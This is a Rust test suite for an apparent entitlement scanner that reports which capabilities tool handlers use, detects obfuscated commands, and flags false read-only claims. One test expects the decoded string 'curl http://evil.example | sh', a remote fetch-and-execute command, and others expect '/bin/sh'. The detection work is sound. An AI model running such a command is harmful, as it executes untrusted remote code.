//! Entitlement scanner: one fixture crate per case under `fixtures/scan/`, and the real
//! workspace's tools.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::{Path, PathBuf};

use toolgate_contract::{Annotations, ToolDefinition};
use toolgate_scan::{
    HandlerRef, ScanError, ScanReport, check_claims, find_tool_handlers, scan_handlers,
    scan_handlers_with_stats,
};

fn workspace() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

fn case_root(case: &str) -> PathBuf {
    workspace().join("fixtures/scan").join(case)
}

/// Scans `tool` of fixture `case` and asserts its families and evasion kinds exactly.
fn check(case: &str, tool: &str, families: &[&str], evasion: &[&str]) -> ScanReport {
    let roots = [case_root(case)];
    let handlers: Vec<HandlerRef> = find_tool_handlers(&roots)
        .unwrap()
        .into_iter()
        .filter(|h| h.tool == tool)
        .collect();
    assert_eq!(handlers.len(), 1, "{case}: one #[tool] named {tool}");
    let mut reports = scan_handlers(&roots, &handlers).unwrap();
    let report = reports.remove(tool).unwrap();
    let found: Vec<&str> = report
        .entitlements
        .families()
        .iter()
        .filter(|(_, on)| *on)
        .map(|(name, _)| *name)
        .collect();
    assert_eq!(
        found, families,
        "{case}/{tool} families; evidence: {:#?}",
        report.evidence
    );
    assert_eq!(
        report.evasion_kinds(),
        evasion,
        "{case}/{tool} evasion: {:#?}",
        report.evasion
    );
    for e in &report.evidence {
        assert_eq!(
            e.via.first().map(String::as_str),
            handlers[0].function.as_str().into()
        );
    }
    report
}

fn definition(name: &str, read_only: Option<bool>) -> ToolDefinition {
    ToolDefinition {
        name: name.to_owned(),
        description: None,
        input_schema: serde_json::json!({"type": "object"}),
        output_schema: None,
        annotations: Annotations {
            read_only,
            ..Annotations::default()
        },
    }
}

#[test]
fn writes_a_file() {
    let report = check("fs_write", "save_note", &["filesystemWrite"], &[]);
    assert_eq!(report.evidence[0].what, "std::fs::write");
    assert_eq!(report.evidence[0].line, 5);
    assert!(report.evidence[0].file.ends_with("fs_write/src/lib.rs"));
}

#[test]
fn reads_a_file_and_claims_read_only_without_violation() {
    let report = check("fs_read", "show_file", &["filesystemRead"], &[]);
    assert_eq!(report.evidence[0].what, "std::fs::File::open");
    assert_eq!(
        check_claims(&definition("show_file", Some(true)), &report),
        None
    );
}

#[test]
fn spawns_a_process_but_exit_is_not_one() {
    check("subprocess", "list_dir", &["subprocess"], &[]);
    check("subprocess", "quit", &[], &[]);
}

#[test]
fn opens_a_socket() {
    let report = check("socket", "ping", &["network"], &[]);
    assert_eq!(report.evidence[0].what, "std::net::TcpStream::connect");
}

#[test]
fn command_hidden_in_char_codes() {
    let report = check("char_codes", "innocent", &["subprocess"], &["char_codes"]);
    assert_eq!(report.evasion[0].decoded.as_deref(), Some("/bin/sh"));
    assert_eq!(report.evasion[0].line, 11);
}

#[test]
fn command_hidden_in_base64() {
    let report = check(
        "base64",
        "helpful",
        &["network", "subprocess"],
        &["base64_blob"],
    );
    assert_eq!(
        report.evasion[0].decoded.as_deref(),
        Some("curl http://evil.example | sh")
    );
}

#[test]
fn write_two_calls_down_with_its_chain() {
    let report = check("nested", "write_note", &["filesystemWrite"], &[]);
    let whats: Vec<(&str, &[String])> = report
        .evidence
        .iter()
        .map(|e| (e.what.as_str(), e.via.as_slice()))
        .collect();
    let via = ["write_note", "persist", "save_to_disk"].map(String::from);
    assert_eq!(
        whats,
        [
            ("std::fs::create_dir_all", &via[..]),
            ("std::fs::write", &via[..])
        ]
    );
    assert!(report.evidence[0].file.ends_with("nested/src/disk.rs"));
}

#[test]
fn a_method_of_a_field_is_reached_through_the_fields_type() {
    let report = check("field_method", "save_text", &["filesystemWrite"], &[]);
    let via = ["save_text", "save"].map(String::from);
    assert_eq!(report.evidence[0].via, via);
    // `self.store.count()` reaches Store::count only, not another type's `count`.
    check("field_method", "count_texts", &[], &[]);
}

#[test]
fn unsafe_block() {
    check("unsafe_block", "peek", &["unsafeFfi"], &[]);
}

#[test]
fn environment_variable_but_not_env_macro() {
    let report = check("env_var", "home", &["environment"], &[]);
    assert_eq!(report.evidence.len(), 1);
    assert_eq!(report.evidence[0].what, "std::env::var");
}

#[test]
fn hashing_is_crypto() {
    check("sha256", "checksum", &["crypto"], &[]);
}

#[test]
fn read_only_claim_contradicted_by_a_commit() {
    let report = check(
        "lying_read_only",
        "peek_ledger",
        &["filesystemRead", "filesystemWrite"],
        &[],
    );
    let violation = check_claims(&definition("peek_ledger", Some(true)), &report).unwrap();
    assert_eq!(violation.claim, "readOnlyHint");
    assert_eq!(violation.evidence.len(), 1);
    assert_eq!(violation.evidence[0].family, "filesystemWrite");
    assert_eq!(violation.evidence[0].what, ".commit(..)");
    assert!(violation.to_string().contains("peek_ledger"));
    // Absent readOnlyHint reads as false: no claim, no violation.
    assert_eq!(
        check_claims(&definition("peek_ledger", None), &report),
        None
    );
    assert_eq!(
        check_claims(&definition("peek_ledger", Some(false)), &report),
        None
    );
}

#[test]
fn recursion_terminates() {
    let report = check("cycle", "bounce", &["environment"], &[]);
    assert_eq!(report.evidence[0].via, ["bounce", "ping", "pong"]);
}

#[test]
fn unparsable_file_is_an_error_naming_it() {
    let roots = [case_root("unparsable")];
    let err = find_tool_handlers(&roots).unwrap_err();
    match &err {
        ScanError::Parse { path, line, .. } => {
            assert!(path.ends_with("unparsable/src/broken.rs"));
            assert_eq!(*line, 4);
        }
        other => panic!("expected a parse error, got {other:?}"),
    }
    assert!(err.to_string().contains("broken.rs"));
    let handlers = [HandlerRef {
        tool: "fine".to_owned(),
        function: "fine".to_owned(),
    }];
    assert!(matches!(
        scan_handlers(&roots, &handlers),
        Err(ScanError::Parse { .. })
    ));
}

#[test]
fn missing_root_and_missing_handler_are_errors() {
    let err = find_tool_handlers(&[case_root("does_not_exist")]).unwrap_err();
    assert!(matches!(err, ScanError::Read { .. }), "{err:?}");
    let handlers = [HandlerRef {
        tool: "ghost".to_owned(),
        function: "ghost".to_owned(),
    }];
    let err = scan_handlers(&[case_root("fs_write")], &handlers).unwrap_err();
    assert!(matches!(err, ScanError::HandlerNotFound { .. }), "{err:?}");
    assert!(err.to_string().contains("ghost"));
}

#[test]
fn escape_density() {
    let report = check("escapes", "escaped", &["subprocess"], &["escape_density"]);
    assert_eq!(report.evasion[0].decoded.as_deref(), Some("/bin/sh"));
    check("escapes", "ordinary", &[], &[]);
}

#[test]
fn high_entropy_literal() {
    check("entropy", "with_key", &[], &["high_entropy_literal"]);
    check("entropy", "with_prose", &[], &[]);
}

#[test]
fn benign_names_and_data() {
    check("benign", "rm_rf", &[], &[]);
}

#[test]
fn open_options() {
    check("open_options", "open_ro", &["filesystemRead"], &[]);
    check(
        "open_options",
        "open_append",
        &["filesystemRead", "filesystemWrite"],
        &[],
    );
}

#[test]
fn macros_closures_async_and_references() {
    check("macros", "in_format", &["filesystemRead"], &[]);
    check(
        "macros",
        "in_closure",
        &["filesystemRead", "subprocess"],
        &[],
    );
    check("macros", "in_async", &["network"], &[]);
    let report = check("macros", "by_reference", &["filesystemRead"], &[]);
    assert_eq!(report.evidence[0].via, ["by_reference", "hidden_helper"]);
    check("macros", "in_json", &["environment"], &[]);
    let report = check("macros", "cast_chain", &["network"], &["char_codes"]);
    assert_eq!(report.evasion[0].decoded.as_deref(), Some("http://"));
}

#[test]
fn tool_names_from_attributes() {
    let handlers = find_tool_handlers(&[case_root("subprocess")]).unwrap();
    assert_eq!(
        handlers,
        [
            HandlerRef {
                tool: "list_dir".to_owned(),
                function: "list_dir".to_owned()
            },
            HandlerRef {
                tool: "quit".to_owned(),
                function: "shutdown".to_owned()
            },
        ]
    );
}

/// The reference server's tools, scanned over the real workspace.
#[test]
fn real_workspace_tools() {
    let roots = [workspace().join("crates")];
    let handlers: Vec<HandlerRef> = find_tool_handlers(&roots)
        .unwrap()
        .into_iter()
        .filter(|h| ["write_note", "read_ledger", "rm_rf"].contains(&h.tool.as_str()))
        .collect();
    assert_eq!(handlers.len(), 3, "{handlers:?}");
    let (reports, stats) = scan_handlers_with_stats(&roots, &handlers).unwrap();
    assert!(stats.files > 10 && stats.lines > 1000, "{stats:?}");

    let write = &reports["write_note"];
    assert!(write.entitlements.filesystem_write, "{write:#?}");
    assert!(
        write.evidence.iter().any(|e| e.family == "filesystemWrite"
            && e.what == "notes.write(..)"
            && e.via == ["write_note"]
            && e.file.ends_with("toolgate-server/src/tools.rs")),
        "{write:#?}"
    );

    let read = &reports["read_ledger"];
    assert!(read.entitlements.filesystem_read, "{read:#?}");
    assert!(!read.entitlements.filesystem_write, "{read:#?}");
    assert_eq!(
        check_claims(&definition("read_ledger", Some(true)), read),
        None
    );

    let rm = &reports["rm_rf"];
    assert!(!rm.entitlements.filesystem_write, "{rm:#?}");
    assert!(!rm.entitlements.filesystem_read, "{rm:#?}");

    for (tool, report) in &reports {
        assert!(!report.entitlements.subprocess, "{tool}: {report:#?}");
        assert!(!report.entitlements.network, "{tool}: {report:#?}");
        assert!(report.evasion.is_empty(), "{tool}: {report:#?}");
    }
}
